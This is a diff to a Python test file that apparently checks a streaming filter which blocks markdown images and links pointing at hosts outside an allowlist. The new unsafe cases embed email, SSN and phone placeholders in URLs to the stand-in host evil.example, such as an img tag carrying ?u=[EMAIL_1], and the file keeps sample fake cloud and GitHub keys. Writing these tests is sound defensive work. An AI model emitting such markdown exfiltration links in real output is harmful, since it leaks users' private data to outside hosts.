@@ -171,6 +171,12 @@ SAFE = st.sampled_from(
         "![a][r\\]x] ",
         "\n[r\\]x]: https://docs.python.org/t.png\n",
         "[cdn](https://images-eu.ssl-images-amazon.com/images/I/x.jpg) ",
+        # Placeholders: under an allowed host, in labels, in prose.
+        "![x](https://[EMAIL_1].docs.python.org/p.png) ",
+        "[doc](https://docs.python.org/3/[US_SSN_12]) ",
+        "Mail [EMAIL_1] about [ticket [PHONE_2]](https://docs.python.org/t) ",
+        "[EMAIL_3",
+        "]",
     ]
 )
 UNSAFE = st.sampled_from(
@@ -194,6 +200,13 @@ UNSAFE = st.sampled_from(
         "\n[r\\]x]: https://evil.example/t.png\n",
         CANARY,
         "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 ",
+        # Placeholders in URLs of hosts not allowed: restoring puts the value there.
+        "![x](https://[US_SSN_1].evil.example/p.png)",
+        "[x](https://[EMAIL_1].evil.example/) ",
+        "[x](https://evil.example/" + "p/" * 150 + "[EMAIL_1]) ",
+        "![x](https://docs.python.org[EMAIL_1]/p.png)",
+        '<img src="https://evil.example/?u=[EMAIL_1]">',
+        "\n[p]: https://evil.example/[PHONE_1]\n",
         "AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ",
     ]
 )
@@ -292,6 +305,9 @@ LATE_UNSAFE = {
     "escaped-reference-image": (
         f"Summary ![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://evil.example/t.png\n"
     ),
+    "placeholder-host-image": "Done ![x](https://[US_SSN_1].evil.example/p.png) ok.",
+    "placeholder-far-in-path": "See [x](https://evil.example/" + "seg/" * 120 + "[EMAIL_1]) ok.",
+    "placeholder-after-allowed-host": "![x](https://docs.python.org[EMAIL_1]/p.png)",
     "escaped-reference-def-first": (
         f"[r\\]x]: https://evil.example/t.png\n\n{FILLER}\n\nSummary ![status][r\\]x]\n"
     ),
@@ -324,8 +340,15 @@ LATE_SAFE = {
         f"![status][r\\]x]\n\n{FILLER}\n\n[r\\]x]: https://docs.python.org/t.png\n"
     ),
     "ordinary-host-link": "See [the CDN](https://images-eu.ssl-images-amazon.com/images/x) ok.",
+    "placeholder-under-allowed-host": "![x](https://[EMAIL_1].docs.python.org/p.png) ok.",
+    "placeholder-in-allowed-path": "[doc](https://docs.python.org/" + "s/" * 150 + "[US_SSN_1]) ok",
 }
 
+# What must not be released of the forms whose host is not "evil.example".
+LATE_MARKERS = {
+    "escaped-reference-def-first": "![status]",
+    "placeholder-after-allowed-host": "[EMAIL_1]",
+}
 LATE_SIZES = [*range(1, 17), 31, 64, 97, 255, 256, 257, 511]
 
 
@@ -338,7 +361,7 @@ def test_new_forms_are_blocked_under_every_chunking(name: str) -> None:
         for offset in (0, 1, 3) if size > 3 else (0,):
             released, violations = stream(compiled, chunked(text, size, offset))
             assert violations, (name, size, offset)
-            marker = "![status]" if name == "escaped-reference-def-first" else "evil.example"
+            marker = LATE_MARKERS.get(name, "evil.example")
             assert marker not in released, (name, size, offset)
 
 
@@ -378,7 +401,16 @@ def destinations_near_the_reach(draw: st.DrawFn) -> tuple[str, list[str]]:
             max_size=160,
         )
     )
-    host = draw(st.sampled_from(["evil.example", "docs.python.org"]))
+    host = draw(
+        st.sampled_from(
+            [
+                "evil.example",
+                "docs.python.org",
+                "[EMAIL_1].docs.python.org",
+                "[EMAIL_1].evil.example",
+            ]
+        )
+    )
     text = head + opener + "".join(words) + f"](https://{host}/p.png) tail words."
     sizes = itertools.cycle(draw(st.lists(st.integers(1, 64), min_size=1, max_size=6)))
     chunks, at = [], 0
